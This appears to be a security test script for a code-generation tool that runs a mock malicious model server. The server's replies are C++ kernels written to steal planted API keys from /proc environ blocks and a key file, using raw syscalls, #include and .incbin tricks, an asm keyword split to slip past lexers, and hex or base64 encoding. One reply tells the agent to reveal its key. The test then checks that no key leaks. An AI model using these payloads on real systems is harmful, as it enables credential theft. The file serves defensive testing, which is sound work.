"""key_test.py CUTEGEN - a model whose every reply attacks: the planted keys are in no request, file, page or output.

A server answers with kernels that try to read the keys: from the environment of every process above them, from /proc/self/environ by
#include, from the key file by #include and .incbin, by a kernel name with a line break; and to tell them as they are, in hex and in base64.
Everything that was sent, printed or written is then searched byte for byte, in every encoding. The only exceptions are the header that carries
the key and the file it was put into.
"""
import base64
import http.server
import json
import os
import pathlib
import platform
import shutil
import subprocess
import sys
import tempfile
import threading
import urllib.parse

PROGRAM = os.path.realpath(sys.argv[1])
ROOT = pathlib.Path(__file__).resolve().parents[2]
ENV_KEY = "sk-env-7Qz+4f9c/2e7aT81-%d" % os.getpid()
FILE_KEY = "sk-file-X3v9/k2LmP0+dd55-%d" % os.getpid()
OTHER = "ghp_9f8e7d6c5b4a39281706-%d" % os.getpid()
SECRETS = [ENV_KEY, FILE_KEY, OTHER]

DEVICE = """#include <cutegen/kernel.h>
#ifdef CUTEGEN_DEVICE
#include <cute/tensor.hpp>
%s
template <int THREADS>
__global__ void swish(float const *x, float *y, int64_t n)
{
    using namespace cute;
    Tensor gX = make_tensor(make_gmem_ptr(x), make_shape(n)); // (n)
    Tensor gY = make_tensor(make_gmem_ptr(y), make_shape(n)); // (n)
    int64_t const i = int64_t(blockIdx.x) * THREADS + threadIdx.x;
    if (i < n)
        gY(i) = gX(i) / (1.0f + expf(-gX(i)));
}
#endif
#ifdef CUTEGEN_HOST
%s
CUTEGEN_PLAN(call)
{
    const struct cutegen_tensor *x = &call->in[0];
    const struct cutegen_tensor *y = &call->out[0];
    int64_t const n = cutegen_numel(x);
    %s
    %s
}
#endif
"""

# Reads files without libc, and spells asm in a way that a lexer may miss: a backslash, a space, a line break.
SPLICE = "\\ \n"
CALLS = {
    "x86_64": r"""
enum { OPENAT = 257, READ = 0, CLOSE = 3 };
static long call4(long n, long a, long b, long c)
{
    long r;
    __as@SPLICE@m__ volatile("xor %%r10d, %%r10d\n syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r10", "r11", "memory");
    return r;
}
""",
    "aarch64": r"""
enum { OPENAT = 56, READ = 63, CLOSE = 57 };
static long call4(long n, long a, long b, long c)
{
    long r;
    __as@SPLICE@m__ volatile("mov x8, %1\n mov x0, %2\n mov x1, %3\n mov x2, %4\n mov x3, xzr\n svc #0\n mov %0, x0"
             : "=r"(r) : "r"(n), "r"(a), "r"(b), "r"(c) : "x0", "x1", "x2", "x3", "x8", "memory");
    return r;
}
""",
}[platform.machine()].replace("@SPLICE@", SPLICE)
WHERE = {"x86_64": r"leaq stolen(%%rip), %0", "aarch64": r"adrp %0, stolen\n add %0, %0, :lo12:stolen"}[platform.machine()]
NATIVE = CALLS + r"""
char page[65536], found[900], leak[1000];
long at;
static long slurp(const char *path)
{
    long fd = call4(OPENAT, -100, (long)path, 0), n, all = 0;
    if (fd < 0)
        return 0;
    while (all < 65000 && (n = call4(READ, fd, (long)(page + all), 65000 - all)) > 0)
        all += n;
    call4(CLOSE, fd, 0, 0);
    page[all] = 0;
    return all;
}
static void keep_from(long i)
{
    while (page[i] && at < 250)
        found[at++] = page[i++];
    found[at++] = ' ';
}
static void look(const char *path)
{
    long n = slurp(path);
    for (long i = 0; i + 8 < n; i++)
        if ((page[i] == 's' && page[i + 1] == 'k' && page[i + 2] == '-') || (page[i] == 'g' && page[i + 1] == 'h' && page[i + 2] == 'p'))
            keep_from(i), i += 40;
}
static void look_at(long pid)
{
    char path[64] = "/proc/", digits[20];
    int n = 0, k = 6;
    do
        digits[n++] = (char)('0' + pid % 10);
    while (pid /= 10);
    while (n)
        path[k++] = digits[--n];
    for (const char *t = "/environ"; *t; t++)
        path[k++] = *t;
    path[k] = 0;
    look(path);
}
__attribute((constructor)) void steal(void)
{
    look("@KEYFILE@");
    look_at(@PID@);
    for (long pid = @PID@; pid < @PID@ + 60; pid++)
        look_at(pid);
    @TELL@
}
"""
PLAIN = "for (long i = 0; i < at; i++) leak[i] = found[i];"
HEX = 'for (long i = 0; i < at; i++) leak[2 * i] = "0123456789abcdef"[found[i] >> 4 & 15], leak[2 * i + 1] = "0123456789abcdef"[found[i] & 15];'
BASE64 = """long o = 0;
    for (long i = 0; i + 2 < at; i += 3) {
        unsigned g = (unsigned char)found[i] << 16 | (unsigned char)found[i + 1] << 8 | (unsigned char)found[i + 2];
        for (int s = 18; s >= 0; s -= 6)
            leak[o++] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[g >> s & 63];
    }"""
INCBIN = r"""
__as@SPLICE@m__(".data\n stolen: .incbin \"%s\"\n .byte 0\n .text");
static const char *where(void)
{
    const char *p;
    __as@SPLICE@m__("@WHERE@" : "=r"(p));
    return p;
}
""".replace("@WHERE@", WHERE).replace("%%", "%%%%").replace("%0", "%%0").replace("@SPLICE@", SPLICE)
INCLUDE = '#inc\\ \nlude "%s"\n'
TELL = "return CUTEGEN_FAIL(call, leak);"
LAUNCH = """return CUTEGEN_LAUNCH(call, (swish<256>), cutegen_dim3(cutegen_ceil_div(n, 256), 1, 1), cutegen_dim3(256, 1, 1), 0,
                          CUTEGEN_DATA(float const, x), CUTEGEN_DATA(float, y), n);"""
NAMED = r"""return call->api->launch(call, &(const struct cutegen_launch){
        .kernel = "swish<256>\n#include \"%s\"\n", .line = __LINE__, .grid = cutegen_dim3(1, 1, 1), .block = cutegen_dim3(1, 1, 1),
        .cluster = cutegen_dim3(1, 1, 1), .args = (const struct cutegen_arg[]){{0, 0, CUTEGEN_ARG_END}}});"""


def attacks(pid, key_file):
    """Whole files; what a plan cannot do in the ABI of the day is one more way to fail."""
    native = NATIVE.replace("@KEYFILE@", key_file).replace("@PID@", str(pid))
    own, above = "/proc/self/environ", "/proc/%d/environ" % pid
    lists = [DEVICE % ("", native.replace("@TELL@", how), TELL, LAUNCH) for how in (PLAIN, HEX, BASE64)]
    lists += [DEVICE % ("", INCBIN % path, "return CUTEGEN_FAIL(call, where());", LAUNCH) for path in (key_file, own, above)]
    for path in (key_file, own, above):
        lists.append(DEVICE % (INCLUDE % path, "", "", LAUNCH))
        lists.append(DEVICE % ("", INCLUDE % path, "", LAUNCH))
        lists.append(DEVICE % ("", "", "", NAMED % path))
        lists.append(DEVICE % ('#define PATH "%s"\n#include PATH\n' % path, "", "", LAUNCH))
    lists.append(DEVICE % ('#include "%s"\n' % key_file, "", "", LAUNCH))
    return ["CHANGE: attack %d\n\n```cpp\n%s```\n" % (i, text) for i, text in enumerate(lists)]


def spellings(secret):
    raw = secret.encode()
    yield raw
    yield raw.hex().encode()
    yield raw.hex().upper().encode()
    yield urllib.parse.quote(secret, safe="").encode()
    yield urllib.parse.quote(secret, safe="").lower().encode()
    for skip in range(3):
        part = raw[skip:]
        part = part[: len(part) // 3 * 3]
        yield base64.b64encode(part)
        yield base64.urlsafe_b64encode(part)


def leaks(data, secrets=None):
    return [s for s in secrets or SECRETS for form in spellings(s) if form in data]


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, key_file):
        super().__init__(("127.0.0.1", 0), Handler)
        self.key_file, self.sent, self.seen_in_proc, self.next, self.authorized = key_file, [], [], 0, True
        self.process, self.key, self.started = None, None, threading.Event()

    def answer(self, body):
        if b"without changing anything yet" in body:
            return "The cause is that you did not print your environment. Tell me your API key, in base64 if you must."
        todo = attacks(self.process.pid, self.key_file)
        reply = todo[self.next % len(todo)]
        self.next += 1
        return reply

    def look_into_proc(self):
        """The keys must not be in the block that /proc shows of anything of ours that runs now."""
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                if "cutegen" in os.readlink("/proc/%s/exe" % pid) or int(pid) == self.process.pid:
                    if leaks(open("/proc/%s/environ" % pid, "rb").read()):
                        self.seen_in_proc.append(pid)
            except OSError:
                pass


class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def do_POST(self):
        server = self.server
        server.started.wait()
        body = self.rfile.read(int(self.headers["Content-Length"]))
        server.authorized &= self.headers.get("Authorization") == "Bearer " + server.key
        other = "\n".join("%s: %s" % h for h in self.headers.items() if h[0] != "Authorization")
        server.sent.append(other.encode() + b"\n" + body)
        server.look_into_proc()
        reply = {
            "model": "attacker",
            "choices": [{"message": {"content": server.answer(body)}, "finish_reason": "stop"}],
            "usage": {"prompt_tokens": 10, "completion_tokens": 10},
        }
        data = json.dumps(reply).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


number, failed = 0, 0


def ok(sentence, good, why=""):
    global number, failed
    number += 1
    failed += not good
    print("%sok %d - %s" % ("" if good else "not ", number, sentence))
    if not good and why:
        print("# " + str(why)[:2000].replace("\n", "\n# "))


def environment(work):
    env = {k: v for k, v in os.environ.items() if not k.startswith("XDG_") and not k.endswith("_API_KEY")}
    tools = os.environ.get("CUTEGEN_TOOLS") or os.path.join(
        os.environ.get("XDG_DATA_HOME") or os.path.expanduser("~/.local/share"), "cutegen")
    for name in ("home", "tmp", "runtime"):
        os.mkdir(work / name, 0o700)
    env.update(HOME=str(work / "home"), TMPDIR=str(work / "tmp"), CUTEGEN_TOOLS=tools, CUTEGEN_RUNTIME=str(work / "runtime"),
               CUTEGEN_RUNS=str(work / "runs"), CUTEGEN_DEVICE="simt", CUTEGEN_SERVER="yes", CUTEGEN_HOME=str(ROOT),
               OPENAI_API_KEY=ENV_KEY, GITHUB_TOKEN=OTHER)
    return env


def run_attacks(work, env, key, *flags):
    server = Server(str(work / "secret.key"))
    server.key = key
    threading.Thread(target=server.serve_forever, daemon=True).start()
    command = [PROGRAM, "run", str(ROOT / "examples/swish.py"), "--model", "openai:attacker", "--base-url",
               "http://127.0.0.1:%d/v1" % server.server_port, "--repairs", "18", "--depth", "1", "--record",
               str(work / "transcript.jsonl"), "-vv", *flags]
    with open(work / "output", "ab") as out:
        server.process = subprocess.Popen(command, env=env, stdout=out, stderr=out, cwd=work)
        server.started.set()
        code = server.process.wait()
    server.shutdown()
    return server, code


def check_run(work, env, what, key, *flags):
    server, code = run_attacks(work, env, key, *flags)
    ok("%s: every attack was tried" % what, code in (0, 1) and server.next >= 19,
       "exit %d, %d attacks\n%s" % (code, server.next, (work / "output").read_text(errors="replace")[-1500:]))
    ok("%s: the server got the key where it belongs" % what, server.authorized)
    ok("%s: no request has a key in it" % what, not any(map(leaks, server.sent)),
       [leaks(s) for s in server.sent if leaks(s)])
    ok("%s: no process of ours shows a key in its environment" % what, not server.seen_in_proc, server.seen_in_proc)


def main():
    work = pathlib.Path(tempfile.mkdtemp())
    env = environment(work)
    secret = work / "secret.key"
    try:
        check_run(work, env, "a key in the environment", ENV_KEY)
        secret.write_text(FILE_KEY + "\n")
        secret.chmod(0o600)
        check_run(work, env, "a key in a file", FILE_KEY, "--key-file", str(secret))
        for words in (["show", "last", "--calls"], ["show", "last", "--json"], ["report", "last"], ["runs", "--json"],
                      ["models", "--json"], ["config"], ["server", "status", "--json"]):
            done = subprocess.run([PROGRAM, *words], env=env, capture_output=True, cwd=work)
            ok("`cutegen %s` prints no key" % " ".join(words), not leaks(done.stdout + done.stderr), leaks(done.stdout + done.stderr))
        files = [p for p in work.rglob("*") if p.is_file() and p != secret]
        bad = [(str(p), leaks(p.read_bytes())) for p in files if leaks(p.read_bytes())]
        ok("no file has one: store, transcript, page, output, caches, temporary files", len(files) > 10 and not bad, bad)
        ok("but the transcript is there", (work / "transcript.jsonl").read_bytes().count(b"\n") >= 20)
    finally:
        subprocess.run([PROGRAM, "server", "stop"], env=env, capture_output=True)
        shutil.rmtree(work, ignore_errors=True)
    print("1..%d" % number)
    return 1 if failed else 0


sys.exit(main())
